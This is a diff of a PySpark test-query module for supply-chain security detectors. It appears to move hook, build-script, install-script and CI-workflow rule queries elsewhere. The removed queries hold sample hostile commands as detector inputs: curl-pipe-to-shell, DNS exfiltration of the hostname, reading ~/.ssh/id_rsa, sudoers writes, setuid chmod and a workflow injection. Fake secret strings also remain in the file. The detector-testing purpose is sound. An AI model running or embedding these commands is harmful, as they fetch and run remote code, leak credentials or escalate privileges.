@@ -128,10 +128,6 @@ def fix_plan(spark, d):
     return K.fix_plan(D.dependencies(spark, d).select(*KEY).distinct(), D.advisories(spark, d))
 
 
-def upgrade_commands(spark, d):
-    return D.advisories(spark, d).where("fixed_in <> ''").select("id", K.upgrade_command(F.col("ecosystem"), F.col("name"), F.col("fixed_in")).alias("command"))
-
-
 def risk_scores(spark, d):
     return K.scores(K.risk_flags(D.fingerprints(spark, d)))
 
@@ -199,25 +195,12 @@ def maintainer_signals(spark, d):
     return _longs(got.select("name", "version", "hijack_points", "hijack_risk", "maintainer_changed"), "hijack_points")
 
 
-def go_retracted(spark, d):
-    deps = D.dependencies(spark, d).where("ecosystem = 'go'").select(*KEY).distinct()
-    ranges = T(spark, d, "part").where("p_partkey % 10 = 0").select(F.lit("go").alias("ecosystem"), F.concat(F.lit("pkg-"), "p_partkey").alias("name"), F.explode(F.array(
-        F.struct(F.lit("v1.0.0").alias("low"), F.lit("v2.3.5").alias("high")), F.struct(F.lit("4.1.1").alias("low"), F.lit("4.1.1").alias("high")))).alias("r")).select("ecosystem", "name", "r.low", "r.high")
-    return H.retracted(deps, ranges)
-
-
 def binary_droppers(spark, d):
     paths = "element_at(array('a.js','b/x.EXE','lib/y.so','lib/z.cpython-311-x86.so','w.ps1','README','src/m.py','k.txt'), cast(p_size % 8 + 1 as int))"
     files = T(spark, d, "part").selectExpr("if(p_partkey % 2 = 1, 'npm', 'pypi') as ecosystem", f"{paths} as path", "p_partkey")
     return H.binary_droppers(files).select("p_partkey")
 
 
-def dependency_sources(spark, d):
-    spec = "element_at(array('git+https://h/x','o/r#0123456789012345678901234567890123456789','github:a/b','file:../x','^1.0.0','npm:x@1'), cast(p_size % 6 + 1 as int))"
-    rows = T(spark, d, "part").selectExpr("p_partkey", f"{spec} as spec", "if(p_partkey % 2 = 0, 'optional', 'runtime') as dep_group")
-    return H.dependency_sources(rows).select("p_partkey", "dep_source", "git_dep_in_optional")
-
-
 def source_patterns(spark, d):
     """Whole document texts as source files, with a payload in some."""
     body = F.expr(
@@ -226,12 +209,6 @@ def source_patterns(spark, d):
     return H.source_findings(files).select("doc_id", F.explode("capabilities").alias("capability"))
 
 
-def suspicious_hooks(spark, d):
-    body = F.expr(r"""case doc_id % 8 when 1 then 'curl -sSL http://x/y | sh' when 2 then 'node -e "require(\'child_process\').exec(1)"' when 3 then '"cu" + "rl http://x | bash"' when 4 then 'nslookup $(hostname).x.example'
-      when 5 then 'node -e "process.exit(0)"' when 6 then 'bun run setup.js' when 7 then 'echo installed' else 'node-gyp rebuild' end""")
-    return T(spark, d, "documents").select("doc_id", H.suspicious_hook(body).alias("suspicious"))
-
-
 def secrets(spark, d):
     text = F.expr("concat(coalesce(text, ''), case doc_id % 20 when 3 then concat(' AKIA', 'ABCDEFGHIJKLMNOP', ' ') when 5 then ' -----BEGIN RSA PRIVATE KEY-----' else '' end)")
     return H.secrets(T(spark, d, "documents").select("doc_id", text.alias("text"))).select("doc_id", F.explode("secret_kinds").alias("kind"))
@@ -248,11 +225,6 @@ def page_hosts(spark, d):
     return T(spark, d, "pages").groupBy(host.alias("host")).agg(F.count(F.lit(1)).alias("pages"), F.count_if(F.contains("html", F.lit("<script>"))).alias("with_script"))
 
 
-def tarball_drift(spark, d):
-    f = T(spark, d, "lineitem").selectExpr("l_partkey as package", "concat('src/f', l_linenumber, element_at(array('.js','.sh','.bin'), cast(l_suppkey % 3 + 1 as int))) as path", "l_suppkey")
-    return FI.tarball_drift(f.where("l_suppkey % 4 <> 0").select("package", F.concat(F.lit("./"), "path").alias("path")), f.where("l_suppkey % 5 <> 0").select("package", "path"))
-
-
 def glob_match(spark, d):
     path = F.expr("element_at(array('lib/a.js','lib/b.ts','lib/x/c.js'), cast(p_size % 3 + 1 as int))")
     return T(spark, d, "part").select("p_partkey", N.glob_match(path, F.lit("*/*.js")).alias("in_star"), N.glob_match(path, F.lit("lib/**")).alias("in_deep"))
@@ -265,11 +237,6 @@ def layer_overlay(spark, d):
     return FI.overlay(e.select("image", "layer", "kind", F.when(F.col("kind") == "opaque", F.col("dir")).otherwise(F.col("path")).alias("path"))).select("image", "path", "layer")
 
 
-def image_findings(spark, d):
-    files = T(spark, d, "part").selectExpr("p_partkey as image", "element_at(array('tmp/x.sh','usr/bin/.hid','app/package.json','etc/hosts'), cast(p_size % 4 + 1 as int)) as path", "p_size % 4 = 1 as executable")
-    return FI.image_findings(files)
-
-
 def dep_keys(spark, d):
     rows = T(spark, d, "part").selectExpr("p_partkey", "element_at(array('js','js','py','go','rust','java','ruby'), cast(p_size % 7 + 1 as int)) as language",
                                           "element_at(array('@s/pkg/sub','node:fs','os.path','github.com/a/b','serde::de','java.util.List','rack/utils'), cast(p_size % 7 + 1 as int)) as module")
@@ -316,24 +283,6 @@ def spdx_sizes(spark, d):
     return docs.select("project", F.size(F.from_json("document", "packages array<struct<SPDXID:string>>")["packages"]).cast("long").alias("packages"))
 
 
-def build_findings(spark, d):
-    text = F.expr(r"""case doc_id % 6 when 1 then 'pkgname=x\ncurl -s http://h/x | sh\n' when 2 then '# c\nx="\\x41\\x42\\x43\\x44"\n' when 3 then 'a=1\ncat ~/.ssh/id_rsa\n'
-      when 4 then 'build() {\n  make\n  npm install left-pad\n}\n' when 5 then 'package() {\n  # sudo x\n  sudo cp a b\n}\nsudo x' else 'pkgname=y\nbuild() {\n make\n}\n' end""")
-    files = T(spark, d, "documents").select(F.col("doc_id").alias("package"), text.alias("text"))
-    return _longs(SC.build_file_findings(files).select("package", "function", "line", "rule"), "line")
-
-
-def install_script_findings(spark, d):
-    text = F.expr(r"""case doc_id % 6 when 1 then 'post_install() {\n wget http://h/x\n}\n' when 2 then 'cp x /etc/sudoers.d/y' when 3 then 'chmod 4755 /usr/bin/x' when 4 then 'systemctl enable x'
-      when 5 then 'systemctl --user enable x\necho curl is nice' else 'true' end""")
-    return SC.install_script_findings(T(spark, d, "documents").select(F.col("doc_id").alias("package"), text.alias("text"))).select("package", "rule")
-
-
-def source_hosts(spark, d):
-    text = F.expr("case doc_id % 4 when 1 then 'source=(http://10.0.0.1/x.tgz)' when 2 then 'source=(\"https://x.pastebin.com/a\" \"https://x.pastebin.com/a\")' when 3 then 'source=(https://raw.githubusercontent.com/a/b)' else '' end")
-    return SC.source_findings(T(spark, d, "documents").select(F.col("doc_id").alias("package"), text.alias("text"))).select("package", "rule")
-
-
 def history_inversions(spark, d):
     from pyspark.sql import Window
 
@@ -353,12 +302,6 @@ def package_verdicts(spark, d):
     return SC.verdicts(SC.entry_findings(_entries(spark, d)))
 
 
-def workflow_findings(spark, d):
-    text = F.expr(r"""concat('name: x\n', if(doc_id % 5 = 0, 'permissions: write-all\n', 'on: push\n'), 'jobs:\n  steps:\n', if(doc_id % 5 = 1, '    - uses: some/action@v1\n', '    - uses: a/b@0123456789012345678901234567890123456789\n'), '    - run: |\n        make\n',
-      case doc_id % 5 when 2 then '        curl http://h/x | bash\n' when 3 then '        echo ${{ github.event.issue.title }}\n' else '        true\n' end, '    - name: base64 -d\n')""")
-    return _longs(SC.workflow_findings(T(spark, d, "documents").select(F.col("doc_id").alias("file"), text.alias("text"))).select("file", "line", "rule"), "line")
-
-
 def _lock(spark, d, file_name: str, line: str, sep: str = "\n", head: str = "", foot: str = "") -> DataFrame:
     """A lockfile an order, written from its line items."""
     rows = T(spark, d, "lineitem").selectExpr("l_orderkey", "l_linenumber", f"{line} as line")
@@ -431,9 +374,9 @@ def capability_docs(spark, d):
 
 NAMES = [
     dependency_verdicts, ci_gate, ci_findings, verdict_cube, max_severity, advisory_merge, advisory_merge_alias, epss_enrich, kev_enrich, cvss_score, osv_parse, version_order, version_satisfies, max_satisfying, fix_plan,
-    upgrade_commands, risk_scores, risk_flags, allowlisted_scores, allowlist_matches, drift_scores, gate_policy, snapshot_diff, snapshot_rescan, snapshot_show, typosquats, maintainer_signals, go_retracted, binary_droppers,
-    dependency_sources, source_patterns, suspicious_hooks, secrets, license_lines, page_hosts, tarball_drift, glob_match, layer_overlay, image_findings, dep_keys, project_reachability, functions_reaching, callers_closure,
-    package_urls, sarif_results, cyclonedx_sizes, spdx_sizes, build_findings, install_script_findings, source_hosts, history_inversions, package_entries, package_verdicts, workflow_findings, requirements_lock, go_sum_lock,
+    risk_scores, risk_flags, allowlisted_scores, allowlist_matches, drift_scores, gate_policy, snapshot_diff, snapshot_rescan, snapshot_show, typosquats, maintainer_signals, binary_droppers,
+    source_patterns, secrets, license_lines, page_hosts, glob_match, layer_overlay, dep_keys, project_reachability, functions_reaching, callers_closure,
+    package_urls, sarif_results, cyclonedx_sizes, spdx_sizes, history_inversions, package_entries, package_verdicts, requirements_lock, go_sum_lock,
     gradle_lock, cargo_lock, npm_lock, gem_lock, audit_tail, audit_windows, audit_sessions, fleet, image_references, capability_docs,
 ]
 QUERIES = {f.__name__: f for f in NAMES}
@@ -573,14 +516,8 @@ def unused_dependencies(spark, d):
     return policy.unused_dependencies(declared, imported)
 
 
-def checksum_counts(spark, d):
-    text = F.expr("concat('pkgname=x\nsource=(\"a.tgz\"\n  b.patch # c\n)\n', if(doc_id % 3 = 0, 'sha256sums=(\"aa\")', 'sha256sums=(\"aa\" \"bb\")'))")
-    return SC.checksum_findings(T(spark, d, "documents").select(F.col("doc_id").alias("package"), text.alias("text")))
-
-
-def local_binaries(spark, d):
-    rows = T(spark, d, "part").selectExpr("p_partkey as package", "'x' as path", "element_at(array(X'7F454C46AA', X'4D5A9000', X'23212F62', X'CAFEBABE'), cast(p_size % 4 + 1 as int)) as head", "p_partkey % 2 = 0 as added")
-    return SC.binary_findings(rows).select("package", "rule")
+QUERIES |= {f.__name__: f for f in (advisory_queries, advisory_lookup, ghsa_parse, npm_licenses, npm_provenance, packument_releases, resolved_requests, pypi_requests, tag_candidates, patch_drift, unused_dependencies)}
 
+from . import rule_queries  # noqa: E402
 
-QUERIES |= {f.__name__: f for f in (advisory_queries, advisory_lookup, ghsa_parse, npm_licenses, npm_provenance, packument_releases, resolved_requests, pypi_requests, tag_candidates, patch_drift, unused_dependencies, checksum_counts, local_binaries)}
+QUERIES |= rule_queries.QUERIES
